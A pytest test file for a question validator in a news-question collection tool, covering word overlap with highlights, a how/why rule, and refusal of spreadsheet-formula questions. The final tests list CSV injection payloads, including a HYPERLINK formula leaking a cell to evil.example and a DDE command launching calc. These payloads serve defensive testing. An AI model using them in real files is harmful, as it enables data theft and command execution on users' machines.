from __future__ import annotations

import pytest

from collector.question_rules import check_question, highlight_overlap

HIGHLIGHTS = [
    "Portvale council votes 7-2 to build a library on the old harbor site",
    "Construction is expected to start in March and cost about $4 million",
]


def test_overlap_counts_content_words_only():
    # content words: council, vote(s)... "who" and "the" are function words.
    assert highlight_overlap("Who voted against the library?", HIGHLIGHTS) == pytest.approx(1 / 3)
    assert highlight_overlap("Portvale council votes library harbor site?", HIGHLIGHTS) == 1.0
    assert highlight_overlap("the of and", HIGHLIGHTS) == 0.0


def test_copying_the_highlights_is_refused_with_an_explanation():
    verdict = check_question("Will construction start in March?", HIGHLIGHTS, max_overlap=0.6)
    assert not verdict.ok
    assert verdict.overlap == pytest.approx(1.0)
    assert "100% of your question's words come from the highlights (limit 60%)" in verdict.reason


def test_a_curious_question_passes():
    verdict = check_question("Who voted against the plan?", HIGHLIGHTS, max_overlap=0.6)
    assert verdict.ok, verdict.reason


@pytest.mark.parametrize(
    ("question", "ok"),
    [
        ("Why did the council vote for it?", False),
        ("How will the town pay for it?", False),
        ("How much will the library cost?", True),
        ("How long will construction take?", True),
        ("How many members voted no?", True),
    ],
)
def test_how_and_why_rule(question, ok):
    verdict = check_question(question, HIGHLIGHTS, max_overlap=1.0)
    assert verdict.ok is ok, verdict.reason
    assert check_question(question, HIGHLIGHTS, max_overlap=1.0, forbid_how_why=False).ok


def test_too_short_is_refused():
    assert not check_question("Who?", HIGHLIGHTS, max_overlap=1.0).ok


@pytest.mark.parametrize("question", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Who pays?")',
    "+cmd|' /C calc'!A0 and who pays for it?",
    "-2+3 is what the council pays?",
    "@SUM(1+1) who pays for the library?",
    "\t=1+1 who pays for the library?",  # stored stripped: it would start with "="
    "  =1+1 who pays for the library?",
])
def test_a_question_a_spreadsheet_would_run_as_a_formula_is_refused(question):
    # The NewsQA combined CSV carries questions as written (CSV injection): refused where
    # they are written, with a reason that says what to do.
    verdict = check_question(question, HIGHLIGHTS, max_overlap=1.0)
    assert not verdict.ok
    assert verdict.reason.startswith("Start your question with a word")
    assert "=, +, - or @" in verdict.reason


def test_formula_characters_inside_a_question_are_fine():
    assert check_question("Who pays the 2+2=4 dollars, and who gets -3 @ night?", HIGHLIGHTS,
                          max_overlap=1.0).ok
    # A leading tab is white space the stored question loses: what remains is checked.
    assert check_question("\tWho voted against the plan?", HIGHLIGHTS, max_overlap=1.0).ok
